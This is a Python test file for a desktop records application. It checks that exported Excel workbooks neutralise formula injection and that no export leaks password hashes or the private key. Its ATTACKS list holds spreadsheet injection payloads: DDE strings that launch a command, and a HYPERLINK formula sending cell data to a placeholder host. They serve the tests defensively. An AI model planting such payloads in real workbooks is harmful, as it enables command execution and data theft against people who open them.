"""What leaves the program on a USB stick is safe to open: no cell of any workbook it writes is a live
formula, and no export holds a secret (password or recovery-code hashes, the private key)."""

from __future__ import annotations

import json
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from dsj_desktop.actor import ADMIN
from dsj_desktop.db.engine import Database
from dsj_desktop.domain.specs import TARGETS
from dsj_desktop.io.exporter import export_directory, save_workbook
from dsj_desktop.keys import KeyStore
from dsj_desktop.progress import run_job
from dsj_desktop.publish import archive, stats_report
from dsj_desktop.publish.export import write_result_xlsx
from dsj_desktop.publish.render import write_xlsx
from dsj_desktop.publish.tables import PublicColumn, PublicTable
from dsj_desktop.services import accounts, journal, sessions, stats
from dsj_desktop.services.results import export_results

ON = date(2026, 6, 1)
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
]


def formula_cells(path: Path) -> list[str]:
    """Every cell the file stores as a formula, read from the XML itself."""
    out = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                out += re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
    return out


def text_cells(path: Path) -> dict[str, tuple[str, bool]]:
    """value → (data type, shown as text with Excel's leading apostrophe) for the risky strings."""
    wb = load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    found[c.value] = (c.data_type, bool(c.quotePrefix))
    return found


def assert_safe(path: Path, expected: list[str]) -> None:
    assert formula_cells(path) == []
    cells = text_cells(path)
    for value in expected:
        assert cells.get(value) == ("s", True), (value, cells.get(value))


def name_targets(db: Database) -> None:
    """Every target of the demo county gets a dangerous name (whichever is drawn, it is one of them)."""
    with db.read() as conn:
        ids = [r[0] for r in conn.exec_driver_sql("SELECT id FROM target ORDER BY id")]
    with db.write() as conn:
        for i, tid in enumerate(ids):
            conn.exec_driver_sql("UPDATE target SET name = ? WHERE id = ?", (ATTACKS[i % len(ATTACKS)], tid))


def test_a_directory_export_writes_formulas_as_text_and_imports_back(
    demo_db: Database, tmp_path: Path
) -> None:
    name_targets(demo_db)
    path = tmp_path / "targets.xlsx"
    run_job(export_directory(demo_db, TARGETS, path))
    assert_safe(path, ATTACKS)
    names = {r[1] for r in load_workbook(path).active.iter_rows(min_row=2, values_only=True)}
    assert set(ATTACKS) <= names  # the values themselves are unchanged


def test_the_session_result_workbook_writes_formulas_as_text(demo_db: Database, tmp_path: Path) -> None:
    name_targets(demo_db)
    s = sessions.commit(demo_db, sessions.prepare(demo_db, "RW-2026-04", on=ON).id)
    for w in (("甲", "3141592653"), ("乙", "2718281828")):
        s = sessions.add_witness(demo_db, s.id, *w)
    s = sessions.confirm(demo_db, sessions.do_reveal(demo_db, s.id).id)
    drawn = sorted({s.target_names[x["id"]] for x in s.result})
    path = write_result_xlsx(s, tmp_path / "result.xlsx")
    assert_safe(path, drawn)
    results = tmp_path / "results.xlsx"
    run_job(export_results(demo_db, results, year=2026))
    assert_safe(results, drawn)


def test_the_public_tables_and_any_saved_workbook_write_formulas_as_text(tmp_path: Path) -> None:
    cols = [PublicColumn("序号", 6, 1), PublicColumn("名称", 30, 4)]
    table = PublicTable(
        "公示", "公示", "某县应急管理局", 2026, "项", cols, [[str(i), a] for i, a in enumerate(ATTACKS)]
    )
    path = tmp_path / "public.xlsx"
    write_xlsx(table, path)
    assert_safe(path, ATTACKS)
    wb = Workbook()
    for a in ATTACKS:
        wb.active.append([a, 1, -1, "普通文字"])
    save_workbook(wb, tmp_path / "any.xlsx")
    assert_safe(tmp_path / "any.xlsx", ATTACKS)
    numbers = [r[1:3] for r in load_workbook(tmp_path / "any.xlsx").active.iter_rows(values_only=True)]
    assert numbers == [(1, -1)] * len(ATTACKS)  # numbers stay numbers


def test_the_journal_and_statistics_workbooks_write_formulas_as_text(
    demo_db: Database, tmp_path: Path
) -> None:
    for a in ATTACKS:
        demo_db.record(a, {"file": a})
    path = tmp_path / "journal.xlsx"
    journal.export(demo_db, path)
    assert_safe(path, ATTACKS)
    with demo_db.read() as conn:
        wb = stats_report.tables_workbook(stats.year_statistics(conn, 2026))
    wb.worksheets[0].append(ATTACKS)
    save_workbook(wb, tmp_path / "stats.xlsx")
    assert_safe(tmp_path / "stats.xlsx", ATTACKS)


# --- no secret in any export -----------------------------------------------------------------------


@pytest.fixture
def with_accounts(demo_db: Database) -> Database:
    accounts.create_account(demo_db, "admin", "王局长", ADMIN, "secret123", with_recovery=True)
    accounts.login(demo_db, "admin", "secret123")
    accounts.create_account(demo_db, "op", "李操作", "operator", "secret123")
    accounts.reset_password(demo_db, "op", "Another-pw-2026")
    yield demo_db
    accounts.logout(demo_db)


def secrets_of(db: Database) -> list[str]:
    """Every secret the data folder holds: the hashes (whole, and their salt and digest parts) and the key."""
    with db.read() as conn:
        hashes = [
            v
            for r in conn.exec_driver_sql("SELECT password_hash, recovery_hash FROM account")
            for v in r
            if v
        ]
    parts = [p for h in hashes for p in h.split("$") if len(p) >= 16]
    key = KeyStore(db.data_dir).record_private_key()
    from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

    raw = key.private_bytes(Encoding.Raw, PrivateFormat.Raw, NoEncryption())
    return [*hashes, *parts, raw.hex(), "$argon2"]


def assert_no_secret(folder: Path, secrets: list[str]) -> None:
    files = sorted(p for p in folder.rglob("*") if p.is_file())
    assert files
    for path in files:
        data = path.read_bytes()
        texts = [data.decode("utf-8", "replace")]
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                texts = [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
        for text in texts:
            for s in secrets:
                assert s not in text, (path.name, s[:20])


def test_no_export_holds_a_password_hash_or_the_key(with_accounts: Database, tmp_path: Path) -> None:
    db = with_accounts
    secrets = secrets_of(db)
    assert len(secrets) > 5
    out = tmp_path / "out"
    out.mkdir()
    journal.export(db, out / "journal.json")
    journal.export(db, out / "journal.xlsx")
    s = sessions.commit(db, sessions.prepare(db, "RW-2026-04", on=ON).id)
    for w in (("甲", "3141592653"), ("乙", "2718281828")):
        s = sessions.add_witness(db, s.id, *w)
    sessions.confirm(db, sessions.do_reveal(db, s.id).id)
    run_job(archive.export_archive(db, 2026, out / "archive"))
    assert_no_secret(out, secrets)
    # The journal itself never copies them (older entries are redacted on export, see below)...
    with db.read() as conn:
        details = " ".join(r[0] for r in conn.exec_driver_sql("SELECT detail FROM journal"))
    assert "$argon2" not in details and "〈已隐藏〉" in details
    # ... and still says what happened to the accounts, without the values.
    exported = json.loads((out / "journal.json").read_text(encoding="utf-8"))
    assert any(e["action"] == "重设密码：op" and "〈已隐藏〉" in e["detail"] for e in exported)


def test_entries_written_before_hashes_were_hidden_are_redacted_on_export(
    db: Database, tmp_path: Path
) -> None:
    old = json.dumps({"rows": [{"table": "account", "op": "I", "rowid": 1, "values": {
        "username": "admin", "password_hash": "$argon2id$v=19$m=65536,t=3,p=4$c2FsdA$ZGlnZXN0", "recovery_hash": "x"}},
        {"table": "account", "op": "U", "rowid": 1, "changed": {"password_hash": ["$argon2id$a", "$argon2id$b"]}}]},
        ensure_ascii=False)  # fmt: skip
    shown = journal.redact(old)
    assert "argon2" not in shown and '"x"' not in shown and "admin" in shown
    assert journal.redact('{"file": "a.xlsx"}') == '{"file": "a.xlsx"}'
    db.record("新建账户 admin（管理员）", json.loads(old))  # as an earlier version journalled it
    out = tmp_path / "usb"
    out.mkdir()
    for name in ("j.json", "j.xlsx"):
        journal.export(db, out / name)
    assert_no_secret(out, ["$argon2", "ZGlnZXN0"])
